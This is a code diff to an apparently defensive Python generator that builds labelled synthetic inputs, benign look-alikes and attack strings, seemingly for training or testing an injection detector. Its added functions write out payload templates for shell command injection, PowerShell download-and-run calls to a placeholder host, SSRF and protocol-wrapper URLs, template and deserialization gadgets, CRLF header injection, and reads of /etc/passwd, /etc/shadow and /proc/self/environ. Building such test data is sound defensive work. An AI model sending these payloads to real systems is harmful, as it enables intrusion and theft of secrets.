@@ -42,6 +42,8 @@ def honest(random):
         random.choice(("password", "admin", "root", "null", "true", "select", "passwords", "union", "script", "system")), f"ls -la /home/{w}", f"cd /srv/{w} && make {x}",
         f"python3 {w}.py --{x} {n}", f"select the {x} from {w}s where they are {adj}", f"find the {w}; set the {x}; more {adj} ones", f"{w}' {n}", f"{n}' x {m}' {w}", f"it's the {w}'s {x}", f"\"{adj}\" + \"{w}\"", f"'{w}' is {adj}", f"{w} -- {x} -- {adj}",
         f"Re: {w} -- {verb} {topic}", f"{verb} {w}, then {random.choice(VERBS)} {x}", f"{place}; {place}", f"{w}? {x}! {adj}...", f"{n} % {m}", f"{adj}* {w}",
+        f'"{verb.upper()}" {w}', f"{w.upper()} '{x.upper()}'", f"'{verb}' the {w}", f"{n},({m})", f"{n}),({m}", f"{w.upper()} {n}&#39;", f"{w} {n}&quot; & {x}", f"{n} {verb.upper()} {adj.upper()}", f"{name} {verb.upper()} {topic}", f"{w.upper()} {x.upper()} {n}';",
+        f"{w} ({m}.5X{n}\"-{n}0 DPI) --", f'"{n} {m}\'/{n % 9}', f"{w.upper()} {n} '#", f"{w}/*", f"*/*", f'"*"', f"`{n}", f"{n}`", f"{w}=[]'", f"?{w}={n}&", f"{w.upper()}=1;{x}={n}; __{w}={m}",
     ]
     return random.choice(forms)
 
@@ -127,8 +129,51 @@ def other_attack(random):
         "\\\\probe.example\\share\\a", "{__schema{types{name,fields{name}}}}"))
 
 
+PROGRAMS = "id whoami hostname uname printenv ifconfig ipconfig systeminfo netstat tasklist reboot ls dir ps".split()
+CMDLETS = ("Get-Content C:\\\\x.txt|Invoke-Expression $x|Start-Process calc|Get-ChildItem|New-LocalUser p|Invoke-WebRequest probe.example|iex(irm probe.example)|Remove-Item -Recurse C:\\\\x|"
+           "Set-ExecutionPolicy Bypass|Stop-Service x").replace("\\\\", "\\").split("|")
+OPTIONS = ("--upload-pack=touch x|-oProxyCommand=id|--checkpoint-action=exec=sh x|--use-askpass=calc|--post-file=/etc/passwd|--output=/etc/cron.d/x|-exec id ;|--to-command=sh|ext::sh -c id|--rsh=sh|"
+           "--exec=sh|-rf|--config=/tmp/x|-e sh").split("|")
+
+
+def shell_attack(random):
+    """Forms of a second command that lists hold few of: a bare program, PowerShell, cmd.exe, options, words of a shell's own."""
+    w, n, p = random.choice(WORDS), random.randint(1, 99), random.choice(PROGRAMS)
+    s = random.choice((";", "; ", "|", " | ", "&", " & ", "&&", " && ", "||", "\n", "%0a", "%26"))
+    return random.choice((
+        f"{w}{s}{p}", f"{w}.{random.choice(('jpg', 'txt', 'pdf'))}{s}{p}", f"{w}{s}{p}{s}", f"{n}{s}{p} #", f"'{s}{p}{s}'", f'"{s}{p}', f"{w}{s}{random.choice(CMDLETS)}", random.choice(OPTIONS),
+        f"{w}{s}a={p};$a", f"{w}{s}eval {p}", f"{w}{s}exec sh", f"{w}{s}kill -9 {n}", f"{w}{s}crontab -l", f"{w} & for /f %i in ('{p}') do echo %i", f"{w} & reg query HKLM\\SOFTWARE", f"{w} & del /q c:\\{w}",
+        f"{w}{s}sh<<<{p}", f"{w}{s}/b?n/{p[0]}?", f"{w}{s}{p[0]}''{p[1:]}", f"{w}{s}{p[0]}\\{p[1:]}", f"{w}{s}{p[0]}$@{p[1:]}", f"{w}{s}$'\\x{n:02x}\\x64'", f"`{p}`", f"$({p})", f"{w}$({p})", f"{w}{s}${{IFS}}{p}", f"%COMSPEC% /c {p}", f"cmd /c {p}"))
+
+
+def reach_attack(random):
+    """Addresses, wrappers, headers, objects and names of what an interpreter keeps for itself."""
+    w, n = random.choice(WORDS), random.randint(1, 99)
+    inner = random.choice(INNER)
+    return random.choice((
+        f"gopher://{w}.example:{n}/_x", f"dict://{w}.example:11211/stats", f"tftp://{w}.example/x", f"php://filter/read=string.rot13/resource={w}.php", f"php://input", f"phar://{w}.jpg/x", f"zip://{w}.zip%23x.php", f"expect://ls",
+        f"jar:http://{w}.example/a.jar!/x", f"netdoc:///etc/hosts", f"compress.zlib://{w}", f"glob:///var/{w}/*", f"ldap://{w}.example:1389/Exploit", f"\\\\192.0.2.{n}\\{w}", f"http://{inner}:{random.choice((22, 25, 6379, 9200, 8500, 2375, 11211, 3306))}/",
+        f"http://{inner}/{random.choice(('admin', 'server-status', 'manager/html', '_cat/indices', 'containers/json', 'actuator/env', 'phpmyadmin'))}", f"http://{w}.example@{inner}/", f"http://{inner}#@{w}.example/", f"http:\\\\{inner}\\", f"http://{inner}%00.{w}.example",
+        f"http://kubernetes.default.svc/api/{w}", f"{w}@a.example\r\nBcc: b@probe.example", f"{w}@a.example\nTo: b@probe.example", f"{w}\r\nX-{w.title()}: 1", f"{w}\r\nSet-Cookie: {w}={n}", f"{{$smarty.{w}}}", f"{{system('id')}}", f"{{{{printf \"%s\" .{w.title()}}}}}",
+        f"{{{{ .{w.title()} | html }}}}{{{{call .x}}}}", f"{{%debug%}}{{{{{n}*{n}}}}}", f"${{bundle:{w}:x}}", f"${{ctx:{w}}}", f'{{"py/object": "os.system"}}', f'{{"@class": "javax.script.ScriptEngineManager"}}', f'["org.springframework.context.support.{w}Context", "http://probe.example/x.xml"]',
+        f"<java.util.{w.title()} serialization='custom'>", f"BAhvOhVS{w}{n}AAAA", f"System.exit({n})", f"Deno.run({{cmd:['{w}']}})", f"class.module.classLoader.{w}={n}", f"(#_memberAccess['x']={n})", f"pickle.loads({w})", f"[{w}.__proto__][{n}]", f"{w}.__proto__.x={n}",
+        f"{w}[constructor][prototype][x]={n}", f"{{__type(name:\"User\"){{fields{{name}}}}}}", f"query{{__schema{{types{{name}}}}}}", f"%x%x%x%x%n", f"%{n}$s%{n}$n", f"{w})(&)", f"{w})(uid=*", f"{n} or true()", f"file:///proc/self/environ", f"{w}/..%2f..%2fetc%2fpasswd",
+        f"{w}.asp::$DATA", f"\\\\?\\C:\\{w}", f"/WEB-INF/{w}.xml", f"/proc/{n}/cmdline", f"/etc/{random.choice(('shadow', 'sudoers', 'crontab', 'issue'))}"))
+
+
 def attack(random):
-    """One text of an attack and its kind."""
+    """One text of an attack and its kind. Its host is anybody's: a name must not tell."""
+    text, kind = any_attack(random)
+    host = random.choice(WORDS) + random.choice(("", "s", "-" + random.choice(WORDS))) + random.choice((".example", ".example", ".com", ".net", ".org", ".io"))
+    return text.replace("probe.example", random.choice(("", "", "www.", "a.")) + host), kind
+
+
+def any_attack(random):
+    other = random.random()
+    if other < 0.12:
+        return shell_attack(random), "command"
+    if other < 0.24:
+        return reach_attack(random), "other"
     kind = random.choice(("sql", "sql", "sql", "sql", "xss", "xss", "xss", "path", "path", "command", "command", "ssrf", "code", "code", "other", "sql"))
     n = random.randint(1, 99)
     if kind == "sql":
